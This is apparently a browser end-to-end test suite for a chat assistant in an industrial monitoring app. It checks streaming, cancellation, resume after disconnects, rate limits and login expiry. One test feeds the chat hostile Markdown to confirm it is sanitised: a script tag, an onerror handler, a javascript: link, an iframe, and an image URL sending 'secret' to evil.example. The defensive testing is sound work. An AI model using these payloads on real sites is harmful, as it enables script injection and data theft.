// The assistant in the browser: streaming, stopping, resuming, safety.
import assert from "node:assert/strict";
import { Chat } from "./harness/chat.mjs";
import { act } from "./harness/stage.mjs";
import { gate } from "./harness/upstream.mjs";

/** Says word after word, each when the gate lets it. */
const wordByWord = (words, g) => async (r) => {
  for (const w of words) {
    await Promise.race([g.pass(), r.closed]);
    if (r.left) return;
    r.say(w);
  }
  r.done();
};

act("an answer appears word by word", async (t) => {
  const g = gate();
  const words = ["The ", "line ", "runs ", "at **60 %**", " of its speed."];
  t.upstream.on("word by word", wordByWord(words, g));
  const { page } = await t.overview();
  const chat = new Chat(page);
  await chat.ask("word by word, please");
  await page.getByText("word by word, please").waitFor();
  let said = "";
  for (const w of words.slice(0, 3)) {
    g.step();
    said += w;
    await chat.shows(said); // the rest is not even sent yet
  }
  await chat.stop.waitFor();
  g.step(2);
  await chat.phase("done");
  await chat.shows("The line runs at 60 % of its speed.");
  assert.equal(await chat.words.locator("strong").textContent(), "60 %");
  await page.getByText("412 tokens").waitFor();
  await chat.send.waitFor();
});

for (const how of ["the Stop button", "Escape in the box", "Escape after a suggestion", "Escape after the Send button"]) {
  act(`${how} stops an answer at once, and the model with it`, async (t) => {
    const g = gate();
    const suggestion = how === "Escape after a suggestion";
    const question = suggestion ? "How is the line running now?" : `stop by ${how}`;
    t.upstream.on(question, wordByWord(Array.from({ length: 500 }, (_, i) => `w${i} `), g));
    const { page } = await t.overview();
    const chat = new Chat(page);
    if (suggestion) {
      await page.getByRole("button", { name: question }).click();
    } else {
      await chat.box.fill(question);
      if (how === "Escape after the Send button") await chat.send.click();
      else await chat.box.press("Enter");
    }
    g.step(3);
    await chat.shows("w0 w1 w2");
    const request = t.upstream.requests.at(-1);
    if (how === "the Stop button") await chat.stop.click();
    else await page.keyboard.press("Escape"); // wherever the focus is now
    await chat.phase("stopped");
    await request.closed;
    assert.equal((await chat.text()).trim(), "w0 w1 w2");
    // Not a time-out of the server's own: it was told.
    const run = await chat.last.getAttribute("data-run");
    const status = await (await page.context().request.get(`/api/gpt/runs/${run}`)).json();
    assert.equal(status.finish, "cancelled");
    await chat.ask("Hello?"); // and one can go on asking
    await chat.phase("done");
  });
}

for (const how of ["cut", "silence"]) {
  act(`an answer goes on after a ${how} of the line, no word lost and none twice`, async (t) => {
    const g = gate();
    const words = Array.from({ length: 60 }, (_, i) => `w${i} `);
    const shown = (n) => words.slice(0, n).join("");
    t.upstream.on(`resume after ${how}`, wordByWord(words, g));
    const line = await t.line();
    const { page } = await t.overview({ url: line.url });
    const chat = new Chat(page);
    await chat.ask(`resume after ${how}`);
    g.step(20);
    await chat.shows(shown(20));
    for (let n = 30; n <= 50; n += 10) {
      if (how === "cut") line.cut();
      else line.silence();
      g.step(10); // said while nobody hears it
      if (how === "silence") line.restore();
      await chat.shows(shown(n));
    }
    g.step(10);
    await chat.phase("done");
    await chat.shows(shown(60));
    const asked = t.upstream.requests.filter((r) => JSON.stringify(r.messages).includes(`resume after ${how}`));
    assert.equal(asked.length, 1);
  });
}

act("a reload keeps the conversation and takes up the answer that was being written", async (t) => {
  const g = gate();
  const words = ["one ", "two ", "three ", "four"];
  t.upstream.on("across a reload", wordByWord(words, g));
  const { page } = await t.overview();
  const chat = new Chat(page);
  await chat.ask("across a reload");
  g.step(2);
  await chat.shows("one two");
  await page.reload();
  await page.getByText("across a reload").waitFor();
  await chat.shows("one two");
  g.step(2);
  await chat.phase("done");
  await chat.shows("one two three four");
  await page.reload();
  await chat.shows("one two three four");
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.getByText("across a reload").waitFor({ state: "detached" });
});

act("the values that the assistant read are shown, and lead to the thing", async (t) => {
  t.upstream.on("Is CV-02 hot", async (r) => {
    if (!r.afterTool) return r.call("read_state", { path: "plant/line1/conveyor-2" });
    const read = JSON.parse(r.messages.at(-1).content);
    r.say(`It has ${read.things[0].properties.temperature.value} °C.`);
    r.done();
  });
  const view = await t.overview({ path: "/app?thing=plant/line1/tank" });
  const { page } = view;
  const chat = new Chat(page);
  await chat.ask("Is CV-02 hot?");
  await chat.phase("done");
  assert.match(await chat.text(), /^It has [\d.]+ °C\.$/);
  const tool = chat.last.locator("details");
  await tool.getByText(/^Read \d+ signals$/).click();
  await tool.locator("span").filter({ hasText: /^Bearing temp\S* [\d.]+ °C/ }).waitFor();
  await chat.last.getByRole("list", { name: "Sources" }).getByRole("button").first().click();
  await page.waitForURL(/thing=plant\/line1\/conveyor-2/);
  await view.face(/CV-02/);
});

act("hostile Markdown does no harm", async (t) => {
  const hostile = [
    "<script>window.hurt = 1</script> <img src=x onerror='window.hurt=1'>\n\n",
    "![pixel](https://evil.example/?q=secret) ![p](/api/me)\n\n",
    "[run](javascript:window.hurt=1) [data](data:text/html,hi) [out](/api/logout) [fine](https://example.com/manual)\n\n",
    "<style>*{display:none}</style><iframe src=/app></iframe>\n\n",
    "The end.",
  ];
  t.upstream.on("hostile", async (r) => {
    for (const text of hostile) for (const c of text) r.say(c);
    r.done();
  });
  const { page } = await t.overview();
  const loads = [];
  page.on("request", (r) => loads.push(r.url()));
  const chat = new Chat(page);
  await chat.ask("hostile");
  await chat.phase("done");
  await chat.last.getByText("The end.").waitFor();
  assert.deepEqual(await chat.words.locator("a").allTextContents(), ["pixel", "fine"]);
  assert.equal(await chat.words.locator("script, img, iframe, style, [onerror], [style]").count(), 0);
  for (const a of await chat.words.locator("a").all()) {
    assert.match(await a.getAttribute("href"), /^https?:\/\//);
    assert.match(await a.getAttribute("rel"), /noopener/);
  }
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.deepEqual(loads.filter((u) => /evil|\/api\/me|logout/.test(u)), []);

  t.upstream.on("too deep", async (r) => {
    r.say(`${"> ".repeat(50)}deep\n\nand after`);
    r.done();
  });
  await chat.ask("too deep");
  await chat.phase("done");
  await chat.last.getByText("and after").waitFor();
});

act("a model that fails is told, and asking again works", async (t) => {
  let times = 0;
  const g = gate();
  t.upstream.on("fail once", async (r) => {
    r.say("Half of it ");
    if (times++ === 0) {
      await g.pass();
      return r.cut();
    }
    r.say("and the rest.");
    r.done();
  });
  const { page } = await t.overview();
  const chat = new Chat(page);
  await chat.ask("fail once");
  await chat.shows("Half of it");
  g.step();
  await chat.phase("failed");
  await page.getByRole("alert").filter({ hasText: "cut off before its end" }).waitFor();
  assert.equal((await chat.text()).trim(), "Half of it");
  await page.getByRole("button", { name: "Ask again" }).click();
  await chat.phase("done");
  assert.equal(await chat.text(), "Half of it and the rest.");
  assert.equal(await chat.answers.count(), 1);
});

act("the question box knows its keys and its limit", async (t) => {
  const { page } = await t.overview();
  const chat = new Chat(page);
  await chat.box.fill("first");
  await chat.box.press("Shift+Enter");
  await chat.box.pressSequentially("second");
  assert.equal(await chat.box.inputValue(), "first\nsecond");
  assert.equal(await chat.answers.count(), 0);
  await chat.box.fill("ệ".repeat(950));
  await page.getByText("950 of 1000 characters").waitFor();
  await chat.box.fill("🔧".repeat(1001));
  await page.getByText("1001 of 1000 characters").waitFor();
  assert.equal(await chat.send.isDisabled(), true);
  await chat.box.press("Enter");
  assert.equal(await chat.answers.count(), 0);
  await chat.ask("🔧".repeat(1000));
  await chat.phase("done"); // the server counts as we do
});

act("a reader who scrolled up is left there", async (t) => {
  const g = gate();
  const lines = Array.from({ length: 80 }, (_, i) => `line ${i}\n\n`);
  t.upstream.on("long answer", wordByWord(lines, g));
  const { page } = await t.overview();
  const chat = new Chat(page);
  const left = () => chat.log.evaluate((e) => e.scrollHeight - e.scrollTop - e.clientHeight);
  await chat.ask("long answer");
  g.step(60);
  await chat.last.getByText("line 58", { exact: true }).waitFor();
  await page.waitForFunction(() => {
    const e = document.querySelector("[role=log]");
    return e.scrollHeight > e.clientHeight && e.scrollHeight - e.scrollTop - e.clientHeight < 24;
  });
  await chat.log.hover();
  await page.mouse.wheel(0, -400);
  const newest = page.getByRole("button", { name: "Newest" });
  await newest.waitFor();
  const before = await chat.log.evaluate((e) => e.scrollTop);
  g.step(15);
  await chat.last.getByText("line 73", { exact: true }).waitFor();
  assert.ok(Math.abs((await chat.log.evaluate((e) => e.scrollTop)) - before) < 2);
  await newest.click();
  assert.ok((await left()) < 24);
  g.step(5);
  await chat.phase("done");
});

act("closing the drawer keeps the answer going", async (t) => {
  const g = gate();
  t.upstream.on("behind the door", wordByWord(["one ", "two ", "three "], g));
  const { page } = await t.overview();
  const chat = new Chat(page);
  await chat.ask("behind the door");
  g.step();
  await chat.shows("one");
  await page.getByRole("button", { name: "Close assistant" }).click();
  await chat.log.waitFor({ state: "hidden" });
  g.step(2);
  await page.getByRole("button", { name: "Assistant", exact: true }).click();
  await chat.shows("one two three");
});

act("the copy button gives the Markdown as it came", async (t) => {
  t.upstream.on("copy me", async (r) => {
    r.say("Speed is **60 %**.");
    r.done();
  });
  const { page, window: w } = await t.overview();
  await w.context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const chat = new Chat(page);
  await chat.ask("copy me");
  await chat.phase("done");
  await page.getByRole("button", { name: "Copy answer" }).click();
  await page.getByText("Copied").waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "Speed is **60 %**.");
});

act("without a model the drawer says what to set, and everything else works", async (t) => {
  const server = await t.ownServer();
  const { page } = await t.overview({ url: server.url });
  const setup = page.getByRole("region", { name: "The assistant has no language model yet" });
  for (const line of ["OPENAI_API_KEY=", "Ollama", "OPENAI_BASE_URL=http://127.0.0.1:11434/v1", "llama.cpp"]) {
    await setup.getByText(line).first().waitFor();
  }
  const chat = new Chat(page);
  await chat.box.fill("Anybody there?");
  assert.equal(await chat.send.isDisabled(), true);
  await setup.getByRole("button", { name: "Check again" }).click();
  await setup.getByText("Still no language model").waitFor();
});

act("too many questions: it says when to ask again", async (t) => {
  const { server } = await t.quietServer({ ECHOTWIN_GPT_PER_MINUTE: "1" });
  t.expectComplaint(/status of 429/);
  const { page } = await t.overview({ url: server.url });
  const chat = new Chat(page);
  await chat.ask("first");
  await chat.phase("done");
  await chat.ask("second");
  await chat.phase("failed");
  await page.getByRole("alert").filter({ hasText: "Too many questions" }).waitFor();
  const again = page.getByRole("button", { name: /^Ask again in \d+ s$/ });
  await again.waitFor();
  assert.equal(await again.isDisabled(), true);
});

act("a session that ended leads to the login, and back to the question", async (t) => {
  t.expectComplaint(/status of 401/, /net::ERR_|WebSocket connection to/);
  const { page, window: w } = await t.overview();
  await w.context.clearCookies();
  await new Chat(page).ask("Am I still here?");
  await page.waitForURL(/\/login\.html/);
  await w.signIn();
  await page.goto("/app");
  await page.getByText("Am I still here?").waitFor();
  await page.getByRole("button", { name: "Ask again" }).click();
  await new Chat(page).phase("done");
});
